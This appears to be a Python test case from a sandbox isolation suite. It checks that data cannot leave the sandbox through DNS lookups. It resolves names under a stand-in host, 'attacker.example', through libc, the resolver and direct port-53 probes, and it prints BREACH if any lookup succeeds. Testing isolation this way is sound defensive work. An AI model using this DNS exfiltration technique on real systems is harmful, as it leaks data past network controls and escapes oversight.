# Tries: to get data out by names that somebody else's name server is asked for: by libc, by libc
#     told to use DNS, by the resolver over TCP, by a query of its own to each name server it may
#     think of.
# Stopped by: a root whose names are a file; no UDP; nobody listens on port 53.
# With: reaching
# Network: yes
# Job: {"limits": {"timeout_seconds": 20}}
# Expect: {"status": "succeeded"}
import ctypes
import os
import socket

libc = ctypes.CDLL(None)
os.environ["RES_OPTIONS"] = "use-vc attempts:1 timeout:1"
os.environ["LOCALDOMAIN"] = "example.org"
for service in (b"files", b"dns", b"mdns4", b"myhostname dns"):
    libc.__nss_configure_lookup(b"hosts", service)
    for name in ("stolen-word.attacker.example", "stolen-word", "xn--stolen-word-.example"):
        for ask in (lambda: socket.getaddrinfo(name, 80), lambda: socket.gethostbyname_ex(name)):
            try:
                print("BREACH:", name, "is", ask())
            except OSError as error:
                print(service, error)
answer = ctypes.create_string_buffer(512)
for library in ("libresolv.so.2", None):
    try:
        if ctypes.CDLL(library).res_query(b"word.attacker.example", 1, 16, answer, 512) >= 0:
            print("BREACH: the resolver answers")
    except (OSError, AttributeError) as error:
        print(error)
for server in ("127.0.0.1", "127.0.0.53", "8.8.8.8", context["egress"][0][0]):
    if connects((server, 53), seconds=0.2):
        print("BREACH: a name server at", server)
